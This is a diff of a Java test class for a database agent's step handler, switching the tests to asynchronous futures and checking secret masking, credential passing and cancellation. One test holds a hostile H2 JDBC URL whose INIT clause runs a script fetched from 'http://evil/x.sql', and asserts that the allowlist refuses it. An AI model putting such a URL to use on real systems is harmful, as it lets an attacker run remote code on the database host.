@@ -37,11 +37,17 @@ class ExecuteStepHandlerTest {
   private final PodMaskers maskers = new PodMaskers();
   private final List<String> authorizations = new java.util.concurrent.CopyOnWriteArrayList<>();
   private final io.dbops.agent.secrets.PodCredentials credentials = new io.dbops.agent.secrets.PodCredentials();
+  private final TaskExecutors executors = TaskExecutors.standard(2);
+  private final TaskThreads threads = new TaskThreads(executors.workers(), executors.async(), executors.timeouts());
   private Server server;
 
   @AfterEach
   void stop() throws InterruptedException {
     channels.close();
+    executors.workers().shutdownNow();
+    executors.async().shutdownNow();
+    executors.timeouts().shutdownNow();
+    executors.checks().shutdownNow();
     if (server != null) {
       server.shutdownNow().awaitTermination(5, TimeUnit.SECONDS);
     }
@@ -58,7 +64,7 @@ class ExecuteStepHandlerTest {
     });
     maskers.put("pod-1", new Masker(List.of(SECRET)));
 
-    TaskOutcome outcome = handler().run(task("pod-1"));
+    TaskOutcome outcome = run(task("pod-1"));
 
     assertThat(outcome.error()).isEqualTo("password authentication failed for " + Secrets.MASK);
     String output = Json.write(outcome.output());
@@ -71,10 +77,19 @@ class ExecuteStepHandlerTest {
         Status.INTERNAL.withDescription("broke while using " + SECRET).asRuntimeException()));
     maskers.put("pod-1", new Masker(List.of(SECRET)));
 
-    assertThatThrownBy(() -> handler().run(task("pod-1")))
+    assertThatThrownBy(() -> run(task("pod-1")))
         .isInstanceOf(TaskFailedException.class)
         .hasMessageContaining("broke while using " + Secrets.MASK)
         .message().doesNotContain(SECRET);
+  }
+
+  /** Starts the step and waits for its outcome, throwing what the outcome's future failed with. */
+  private TaskOutcome run(Frame.TaskAssigned task) throws Exception {
+    try {
+      return handler().start(task, threads).get(30, TimeUnit.SECONDS);
+    } catch (java.util.concurrent.ExecutionException e) {
+      throw e.getCause() instanceof Exception cause ? cause : e;
+    }
   }
 
   private ExecuteStepHandler handler() {
@@ -93,8 +108,8 @@ class ExecuteStepHandlerTest {
     });
     String token = credentials.issue("pod-1");
 
-    handler().run(task("pod-1"));
-    handler().run(task("pod-1"));
+    run(task("pod-1"));
+    run(task("pod-1"));
 
     assertThat(authorizations).containsExactly("Bearer " + token, "Bearer " + token);
   }
@@ -103,7 +118,7 @@ class ExecuteStepHandlerTest {
   void aStepTheAllowlistsRefuseNeverReachesTheLiteEngine() throws Exception {
     serve(responses -> responses.onError(Status.INTERNAL.asRuntimeException()));
 
-    assertThatThrownBy(() -> handler().run(task("pod-1", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
+    assertThatThrownBy(() -> run(task("pod-1", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
         .isInstanceOf(TaskFailedException.class)
         .hasMessage("Step apply refused: JDBC URL property INIT of h2 is never allowed (rule: JDBC properties; it"
             + " loads classes, runs code, touches files or changes server settings, so no setting allows it)");
@@ -115,9 +130,26 @@ class ExecuteStepHandlerTest {
     serve(responses -> responses.onError(Status.UNAUTHENTICATED.withDescription("missing or wrong pod credential"
         + " (authorization: Bearer <DBOPS_POD_TOKEN>); only this pod's delegate may call it").asRuntimeException()));
 
-    assertThatThrownBy(() -> handler().run(task("pod-1")))
+    assertThatThrownBy(() -> run(task("pod-1")))
         .hasMessageContaining("refused this delegate's credential (missing or wrong pod credential")
         .hasMessageContaining("only the delegate instance that started a pod may call it");
+  }
+
+  @Test
+  void startReturnsWhileTheStepRunsAndCancellingItsOutcomeCancelsTheCall() throws Exception {
+    java.util.concurrent.CountDownLatch called = new java.util.concurrent.CountDownLatch(1);
+    java.util.concurrent.CountDownLatch cancelled = new java.util.concurrent.CountDownLatch(1);
+    serve(responses -> { // answers never: the step runs until it is cancelled
+      ((io.grpc.stub.ServerCallStreamObserver<ExecuteStepResponse>) responses).setOnCancelHandler(cancelled::countDown);
+      called.countDown();
+    });
+
+    java.util.concurrent.CompletableFuture<TaskOutcome> outcome = handler().start(task("pod-1"), threads);
+    assertThat(called.await(30, TimeUnit.SECONDS)).isTrue();
+    assertThat(outcome).isNotDone();
+    outcome.cancel(true);
+
+    assertThat(cancelled.await(30, TimeUnit.SECONDS)).as("the lite engine saw the call cancelled").isTrue();
   }
 
   private void serve(java.util.function.Consumer<StreamObserver<ExecuteStepResponse>> answer) throws Exception {
